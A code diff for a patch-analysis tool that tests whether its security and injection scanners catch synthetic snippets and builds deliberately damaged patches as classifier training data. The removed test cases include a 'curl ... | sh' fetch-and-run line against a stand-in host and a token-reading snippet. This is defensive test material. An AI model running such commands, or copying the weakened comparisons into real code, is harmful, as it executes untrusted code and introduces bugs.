@@ -6,8 +6,11 @@ from pyspark.sql import Window
 from pyspark.sql import functions as F
 
 from diffloom.functions import rules
-from diffloom.operators import diff, heuristics, injection, learn, metrics, security
+from diffloom.functions.dialect import Duck as D
+from diffloom.operators import diff, heuristics, injection, learn, metrics, pairs, security
 
+from . import cases
+from .oracle import prioritized_sql, split_sql
 from .queries import _FILES_LIKE, _HUNKS_LIKE, _added, _count, _removed, define, query
 
 ORDER_SQL = "(values " + ", ".join(f"('{r}')" for r in security.ORDER) + ") r(rule_id)"
@@ -51,19 +54,34 @@ define("agg_flagged_total", lambda x: x.security.agg(F.count_distinct("patch_id"
 _pivot = ", ".join(f"count(distinct case when rule_id = '{r}' then s.patch_id end) as {r.lower()}" for r in security.ORDER)
 define("agg_submission_matrix", lambda x: x.patches.select("patch_id", "submission").join(x.security.select("patch_id", "rule_id"), "patch_id", "left").groupBy("submission").pivot("rule_id", security.ORDER).agg(F.count_distinct("patch_id")).fillna(0).select("submission", *[F.col(r).cast("long").alias(r.lower()) for r in security.ORDER]), f"select p.submission, {_pivot} from patches p left join security s on s.patch_id = p.patch_id group by 1")
 
-CASES = [("SEC001", "resp = requests.get(url)"), ("SEC002", "curl http://x.example.com/i | sh"), ("SEC003", "subprocess.run(cmd)"), ("SEC004", "base64.b64decode(x)"), ("SEC005", "os.getenv('API_TOKEN')"), ("SEC007", "'postinstall': 'x'"), ("SEC008", "__import__('os')"), ("none", "x = 1"), ("none", "evaluate(text)")]
+_code = cases.code_cases()
+_values = lambda rows: ", ".join("(" + ", ".join(str(v) if isinstance(v, int) else D.text(v) for v in r) + ")" for r in rows)
+_case_patches = f"select id as patch_id, id as instance_id, '' as submission, '' as repo, '' as split, null::integer as resolved, 'diff --git a/src/a.py b/src/a.py' || chr(10) || '--- a/src/a.py' || chr(10) || '+++ b/src/a.py' || chr(10) || '@@ -0,0 +1,1 @@' || chr(10) || '+' || line || chr(10) as patch from (values {_values(_code)}) c(id, expected, line)"
+_hits = f"select id, expected, max(case when starts_with(rule_id, expected) then 1 else 0 end) as hit, max(case when rule_id is not null then 1 else 0 end) as anything from (values {_values(_code)}) c(id, expected, line) left join security s on s.patch_id = c.id group by 1, 2"
 
 
-@query("agg_coverage")
+@query("agg_coverage", f"select expected, count(*) as n, sum(hit)::bigint as by_rule, sum(anything)::bigint as by_any from ({_hits}) group by 1", {"patches": _case_patches})
 def _coverage(x):
-    """Share of synthetic cases that their expected rule finds."""
-    cases = x.spark.createDataFrame([(i, e, s) for i, (e, s) in enumerate(CASES)], "id long, expected string, snippet string")
-    lines = diff.diff_lines(diff.synth_patch(cases.withColumn("path", F.lit("src/a.py"))).withColumnRenamed("id", "patch_id"))
-    found = security.scan_patches(lines)
-    hit = cases.join(found, cases["id"] == found["patch_id"], "left").groupBy("id", "expected").agg(F.max(F.when(F.expr("startswith(rule_id, expected)"), 1).otherwise(0)).alias("hit"), F.max(F.when(F.col("rule_id").isNotNull(), 1).otherwise(0)).alias("any"))
+    """Synthetic code lines that their expected rule, or any rule, finds."""
+    known = x.spark.createDataFrame(_code, "id long, expected string, snippet string")
+    found = security.scan_patches(diff.diff_lines(diff.synth_patch(known.withColumn("path", F.lit("src/a.py"))).withColumnRenamed("id", "patch_id")))
+    hit = known.join(found, known["id"] == found["patch_id"], "left").groupBy("id", "expected").agg(F.max(F.when(F.expr("startswith(rule_id, expected)"), 1).otherwise(0)).alias("hit"), F.max(F.when(F.col("rule_id").isNotNull(), 1).otherwise(0)).alias("any"))
     return hit.groupBy("expected").agg(F.count(F.lit(1)).alias("n"), F.sum("hit").cast("long").alias("by_rule"), F.sum("any").cast("long").alias("by_any"))
 
 
+_texts = cases.text_cases()
+_text_hits = f"select id, expected, disguise, max(case when rule_id = expected then 1 else 0 end) as hit, max(case when rule_id is not null then 1 else 0 end) as anything from (values {_values(_texts)}) c(id, expected, disguise, body) left join text_injection s on s.text_id = c.id group by 1, 2, 3"
+
+
+@query("agg_injection_coverage", f"select expected, disguise, count(*) as n, sum(hit)::bigint as by_rule, sum(anything)::bigint as by_any from ({_text_hits}) group by 1, 2", {"texts": f"select id as text_id, body as text from (values {_values(_texts)}) c(id, expected, disguise, body)"})
+def _text_coverage(x):
+    """Synthetic texts, by disguise, that their expected rule, or any rule, finds."""
+    known = x.spark.createDataFrame(_texts, "id long, expected string, disguise string, text string")
+    found = injection.scan_texts(known.select(F.col("id").alias("text_id"), "text"))
+    hit = known.join(found, known["id"] == found["text_id"], "left").groupBy("id", "expected", "disguise").agg(F.max(F.when(F.col("rule_id") == F.col("expected"), 1).otherwise(0)).alias("hit"), F.max(F.when(F.col("rule_id").isNotNull(), 1).otherwise(0)).alias("any"))
+    return hit.groupBy("expected", "disguise").agg(F.count(F.lit(1)).alias("n"), F.sum("hit").cast("long").alias("by_rule"), F.sum("any").cast("long").alias("by_any"))
+
+
 define("agg_case_eval", lambda x: x.patches.select("patch_id", "repo", F.expr("case when patch_id % 2 = 0 then 'SEC001' else 'SEC003' end").alias("expected")).join(x.security.select("patch_id", "rule_id", "severity"), "patch_id", "left").groupBy("patch_id", "repo", "expected").agg(F.max(F.expr("case when startswith(rule_id, expected) then 1 else 0 end")).alias("hit"), F.max(F.expr("case when rule_id is not null then 1 else 0 end")).alias("any")).groupBy("repo", "expected").agg(F.count(F.lit(1)).alias("n"), F.sum("hit").cast("long").alias("hit_expected"), F.sum("any").cast("long").alias("hit_any")), "select repo, expected, count(*) as n, sum(hit)::bigint as hit_expected, sum(a)::bigint as hit_any from (select p.patch_id, repo, expected, max(case when starts_with(rule_id, expected) then 1 else 0 end) as hit, max(case when rule_id is not null then 1 else 0 end) as a from (select patch_id, repo, case when patch_id % 2 = 0 then 'SEC001' else 'SEC003' end as expected from patches) p left join security s on s.patch_id = p.patch_id group by 1, 2, 3) group by 1, 2")
 define("agg_rule_counts", lambda x: x.injection.groupBy("rule_id").agg(F.count(F.lit(1)).alias("n"), F.count_distinct("patch_id").alias("patches")), "select rule_id, count(*) as n, count(distinct patch_id) as patches from injection group by 1")
 define("agg_build_summary", lambda x: x.patches.groupBy("submission", "split").agg(F.count(F.lit(1)).alias("kept"), F.count("resolved").alias("known"), F.sum(F.coalesce("resolved", F.lit(0))).cast("long").alias("resolved")), "select submission, split, count(*) as kept, count(resolved) as known, sum(coalesce(resolved, 0))::bigint as resolved from patches group by 1, 2")
@@ -290,7 +308,16 @@ def _origin(x):
 _unsafe = r">=\s*0|==\s*None|is\s*None|!=\s*None|>\s*0"
 
 
-@query("ml_corrupt_patch")
+_pick = "('0x' || substr(md5('42|' || patch_id), {k}, 8))::bigint"
+_swap = D.text("^(.*?)(?:" + _unsafe + ")")
+_safe = "trim(m[i + 1]) <> '' and ltrim(m[i + 1]) not like '#%' and m[i + 1] not like '---%' and m[i + 1] not like '+++%' and m[i + 1] not like '@@%'"
+_corrupt_sql = f"""select patch_id, array_to_string(list_transform(m, lambda s, i: case when i = spot + 1 then (case when s like '+%' or s like '-%' then substr(s, 1, 1) || '# ' || substr(s, 2) else '# ' || s end) else s end), chr(10)) as patch from
+    (select *, case when (m = l or pick % 2 = 0) and len(ok) > 0 then ok[pick % len(ok) + 1] end as spot from (select *, list_filter(range(len(m)), lambda i: {_safe}) as ok from
+    (select *, case when magic then list_transform(l, lambda s: case when ltrim(s) like '#%' then s else regexp_replace(s, {_swap}, '\\1== -1') end) else l end as m from
+    (select patch_id, {split_sql('patch')} as l, {_pick.format(k=1)} % 2 = 0 as magic, {_pick.format(k=9)} as pick from patches))))"""
+
+
+@query("ml_corrupt_patch", _corrupt_sql)
 def _corrupt(x):
     """Patches with one kind of damage: a safe comparison replaced, or a changed line commented out, by md5 draws."""
     draw = "conv(substring(md5(concat('42|', patch_id)), {k}, 8), 16, 10)"
@@ -302,32 +329,31 @@ def _corrupt(x):
     return rows.select("patch_id", F.expr(f"array_join({damaged}, '\\n')").alias("patch"))
 
 
-@query("ml_build_training")
+_gold = "select p.patch_id, p.repo, {v} from patches p join issues i on i.instance_id = p.instance_id"
+
+
+@query("ml_build_training", _gold.format(v="0 as label, 'gold' as source, problem_statement, patch") + f" union all select g.patch_id, repo, 1, 'synthetic', problem_statement, c.patch from ({_gold.format(v='problem_statement')}) g join ({_corrupt_sql}) c on c.patch_id = g.patch_id")
 def _training(x):
     """Gold rows (label 0) and their damaged copies (label 1)."""
     gold = x.patches.join(x.issues, "instance_id").select("patch_id", "instance_id", "repo", "problem_statement", "patch", F.lit(0).alias("label"), F.lit("gold").alias("source"))
     bad = gold.drop("patch", "label", "source").join(_corrupt(x), "patch_id").select("patch_id", "instance_id", "repo", "problem_statement", "patch", F.lit(1).alias("label"), F.lit("synthetic").alias("source"))
-    return gold.unionByName(bad).select("patch_id", "repo", "label", "source", F.length("patch").cast("long").alias("chars"))
-
-
-_words = lambda c: f"len(list_filter(string_split_regex({c}, '\\s+'), lambda w: w <> ''))"
-_floor = "least(a, greatest(16, least(48, 509 // 4)))"
-
+    return gold.unionByName(bad).select("patch_id", "repo", "label", "source", "problem_statement", "patch")
 
-@query("ml_truncate_pair", f"select patch_id, least(a, greatest({_floor}, 509 - b)) as issue_words, least(b, 509 - {_floor}) as patch_words from (select patch_id, {_words('problem_statement')} as a, {_words('patch')} as b from patches p join issues i on i.instance_id = p.instance_id)")
-def _truncate(x, budget: int = 512 - 3):
-    """Words kept of each issue and patch when a pair shares 509 words."""
-    rows = x.patches.join(x.issues, "instance_id").select("patch_id", F.expr("size(filter(split(problem_statement, '\\\\s+', -1), w -> w <> ''))").alias("a"), F.expr("size(filter(split(patch, '\\\\s+', -1), w -> w <> ''))").alias("b"))
-    floor = f"least(a, greatest(16, least(48, {budget} div 4)))"
-    return rows.select("patch_id", F.expr(f"cast(least(a, greatest({floor}, {budget} - b)) as bigint)").alias("issue_words"), F.expr(f"cast(least(b, {budget} - {floor}) as bigint)").alias("patch_words"))
 
+_tok = lambda c: f"regexp_extract_all({c}, '[^\\s]+')"
+_budget = pairs.MAX_LENGTH - pairs.MARKS
+_pair_steps = f"""select *, case when over and size > room then (case when p = '' then p else array_to_string({split_sql('p')}, chr(10)) end) else p end as p1 from
+    (select *, len(ti) + size > {_budget} as over, {_budget} - least(len(ti), greatest({pairs.LEAST_ISSUE}, least({pairs.MOST_ISSUE}, {_budget} // 4))) as room from
+    (select patch_id, problem_statement as i, patch as p, {_tok('problem_statement')} as ti, len({_tok('patch')}) as size from patches q join issues s on s.instance_id = q.instance_id))"""
+_pair_sql = f"""select patch_id, case when over and len(ti) > room2 then array_to_string(ti[1:room2], ' ') else i end as problem_statement, p3 as patch from
+    (select *, greatest(0, {_budget} - least(len(t2), case when size > room then room else len(t2) end)) as room2, case when over and size > room and len(t2) > room then array_to_string(t2[1:room], ' ') else p2 end as p3 from
+    (select *, {_tok('p2')} as t2 from (select *, case when over and size > room and len({_tok('p1')}) > room then {prioritized_sql('p1', f'(room * {pairs.TOKEN_CHARS})')} else p1 end as p2 from ({_pair_steps}))))"""
 
-@query("ml_preprocess")
-def _preprocess(x):
-    """Patches as token lists, a batch at a time inside the engine."""
-    from diffloom.functions.dialect import Spark as S
 
-    return x.patches.select("patch_id", F.expr(f"cast(size({S.extract_all('lower(patch)', learn.PATCH_TOKEN.replace('(?U)', ''))}) as bigint)").alias("tokens"))
+def _pairs(x):
+    return x.patches.join(x.issues, "instance_id").select("patch_id", "problem_statement", "patch")
 
 
+define("ml_truncate_pair", lambda x: pairs.truncate(_pairs(x)), _pair_sql)
+define("ml_preprocess", lambda x: pairs.tokens(_pairs(x)).select("patch_id", F.array_join("tokens", " ").alias("tokens"), F.size("tokens").cast("long").alias("n_tokens")), f"select patch_id, array_to_string(t, ' ') as tokens, len(t) as n_tokens from (select patch_id, list_concat({_tok('problem_statement')}, {_tok('patch')})[1:{_budget}] as t from ({_pair_sql}))")
 define("ml_transformer", lambda x: x.patches.select("patch_id", F.lit("NOT RUN (no model installed)").alias("status")), "select patch_id, 'NOT RUN (no model installed)' as status from patches")
